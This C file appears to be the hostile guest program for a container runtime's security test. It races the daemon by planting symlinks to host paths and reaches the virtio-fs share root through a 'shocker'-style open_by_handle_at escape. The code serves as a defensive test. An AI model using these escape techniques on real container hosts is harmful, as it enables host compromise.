/* The hostile guest of server/tests/hostile_share.rs: run in a privileged container that
 * reaches the pod's virtio-fs share at SHARE, it plants symlinks to host paths wherever
 * hulld creates something in the share, as fast as it can, for SECONDS seconds, then
 * prints what it planted and sleeps. Every target is a path of the test's host dirs:
 *
 *   <ctr>/etc          -> HOST/etc      hulld writes hostname and resolv.conf there
 *   <ctr>/mounts       -> HOST/mounts   hulld binds the volumes there
 *   <ctr>/mounts/0..3  -> HOST/bind     a volume bound over a host dir
 *   <ctr>/mounts/evil  -> VICTIM        unmounted when the container is removed
 *                                       (not planted when VICTIM is "-")
 *   <ctr>/rootfs/race  -> HOST/rootfs   hulld makes the volume mount points there
 *
 * usage: attacker SHARE SECONDS HOST VICTIM
 *
 * The container reaches the share as any root guest process with CAP_DAC_READ_SEARCH
 * can, without the agent's help (hull-pause leaves nothing at /proc/1/root):
 *
 *   attacker hold-share FILE LINK
 *
 * opens the share's root directory by FUSE file handle (node id 1, generation 0) through
 * FILE, a file the agent bound from the share into the container (/etc/hostname), the
 * "shocker" route out of a bind mount; forks a child that holds that descriptor forever
 * and makes LINK a symlink to /proc/<child>/fd/<n>, so every process of the pod's PID
 * namespace (execs included) reaches the share's root through LINK.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/stat.h>
#include <unistd.h>

static char host_etc[4096], host_mounts[4096], host_bind[4096], host_rootfs[4096];
static const char *victim;
static long planted;

static void plant(const char *target, int dir, const char *name)
{
	if (symlinkat(target, dir, name) == 0)
		planted++;
}

static void attack(int share, const char *ctr)
{
	static const char *slots[] = { "0", "1", "2", "3" };
	int c = openat(share, ctr, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
	if (c < 0)
		return;
	plant(host_etc, c, "etc");
	plant(host_mounts, c, "mounts");
	int m = openat(c, "mounts", O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
	if (m >= 0) {
		for (unsigned i = 0; i < 4; i++)
			plant(host_bind, m, slots[i]);
		if (strcmp(victim, "-") != 0)
			plant(victim, m, "evil");
		close(m);
	}
	int r = openat(c, "rootfs", O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
	if (r >= 0) {
		plant(host_rootfs, r, "race");
		close(r);
	}
	close(c);
}

/* FUSE's handle (fs/fuse/inode.c, fuse_encode_fh): node id high and low words, then
 * the generation; type 0x81 is FILEID_INO64_GEN. The share's root is FUSE_ROOT_ID (1). */
static int hold_share(const char *file, const char *link)
{
	int mnt = open(file, O_RDONLY | O_CLOEXEC);
	if (mnt < 0) {
		perror(file);
		return 1;
	}
	struct {
		struct file_handle h;
		unsigned int words[3];
	} handle = { .h = { .handle_bytes = sizeof handle.words, .handle_type = 0x81 },
		     .words = { 0, 1, 0 } };
	int root = open_by_handle_at(mnt, &handle.h, O_RDONLY | O_DIRECTORY);
	if (root < 0) {
		perror("open_by_handle_at(share root)");
		return 1;
	}
	pid_t child = fork();
	if (child < 0) {
		perror("fork");
		return 1;
	}
	if (child == 0) {
		setsid();
		for (;;)
			pause();
	}
	char target[64];
	snprintf(target, sizeof target, "/proc/%d/fd/%d", child, root);
	unlink(link);
	if (symlink(target, link) != 0) {
		perror(link);
		return 1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "hold-share") == 0)
		return hold_share(argv[2], argv[3]);
	if (argc != 5) {
		fprintf(stderr, "usage: attacker SHARE SECONDS HOST VICTIM\n");
		return 2;
	}
	const char *host = argv[3];
	victim = argv[4];
	snprintf(host_etc, sizeof host_etc, "%s/etc", host);
	snprintf(host_mounts, sizeof host_mounts, "%s/mounts", host);
	snprintf(host_bind, sizeof host_bind, "%s/bind", host);
	snprintf(host_rootfs, sizeof host_rootfs, "%s/rootfs", host);
	time_t end = time(NULL) + atol(argv[2]);
	long rounds = 0;
	while (time(NULL) < end) {
		DIR *d = opendir(argv[1]);
		if (!d) {
			perror("opendir");
			return 1;
		}
		struct dirent *e;
		while ((e = readdir(d)))
			if (e->d_name[0] != '.')
				attack(dirfd(d), e->d_name);
		closedir(d);
		rounds++;
	}
	printf("attacker: %ld rounds, %ld symlinks planted\n", rounds, planted);
	fflush(stdout);
	for (;;)
		pause();
}
